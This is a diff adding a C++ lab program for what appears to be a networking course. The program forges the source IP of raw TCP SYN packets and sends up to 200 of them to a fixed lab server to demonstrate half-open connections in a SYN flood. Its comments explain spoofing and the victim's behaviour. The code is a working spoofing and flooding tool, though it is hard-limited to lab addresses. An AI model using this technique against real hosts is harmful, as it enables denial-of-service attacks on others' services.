@@ -1,0 +1,56 @@
+// syn_flood.cpp - SYNs from hosts that do not exist: connections that stay half open.
+//
+// Look for
+//   [1] a raw socket with the IP header made by us: any sender may stand in it;
+//   [2] its SYN ACK goes to nobody, and the server keeps the half-open connection until it
+//       has repeated that often enough;
+//   [3] only the server of the lab can be meant, and by no more than 200 segments;
+//   [4] the host whose address it is has no such connection, and answers the SYN ACK with RST.
+//
+// Usage:   syn_flood [PORT [COUNT [strangers | own]]]    on client in ./course lab wire
+// Manual:  raw(7) ip(7) tcp(7)
+#include <netinet/in.h>
+
+#include "common/packet.hpp"
+#include "common/program.hpp"
+#include "common/sys_socket.hpp"
+
+namespace {
+
+constexpr packet::Ip client{10, 0, 4, 1};
+constexpr packet::Ip server{10, 0, 4, 2};  // [3]
+constexpr packet::Ip stranger{10, 0, 5, 1};
+
+packet::Buffer syn(const packet::Ip& sender, std::uint16_t sender_port, std::uint16_t port) {
+    packet::Packet packet;
+    auto& ip = packet.ipv4.emplace();
+    ip.protocol = packet::TCP;
+    ip.source_ip = sender;
+    ip.destination_ip = server;
+    auto& tcp = packet.tcp.emplace();
+    tcp.source_port = sender_port;
+    tcp.destination_port = port;
+    tcp.flags = packet::SYN;
+    packet::complete(packet);
+    return packet::encode(packet);
+}
+
+void flood(app::Args args) {
+    const auto port = static_cast<std::uint16_t>(app::number(args, 0, "PORT", 1, 65535, 9190));
+    const auto count = app::number(args, 1, "COUNT", 1, 200, 100);  // [3]
+    auto sender = app::choice(args, 2, {"strangers", "own"}, 0) == 0 ? stranger : client;
+    const auto socket = sys::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // [1]
+    sys::bind(socket, net::parse("10.0.4.1", 0));                     // [3] nowhere else
+    sys::connect(socket, net::parse("10.0.4.2", 0));
+    for (long i = 0; i < count; ++i) {
+        const auto sender_port = static_cast<std::uint16_t>(10'000 + i);
+        (void)sys::send(socket, syn(sender, sender_port, port));  // [2] [4]
+    }
+    app::say(count, " SYNs sent");
+}
+
+}  // namespace
+
+int main(int argc, char* argv[]) {
+    return app::run(argc, argv, {"[PORT [COUNT [strangers | own]]]", 3}, flood);
+}
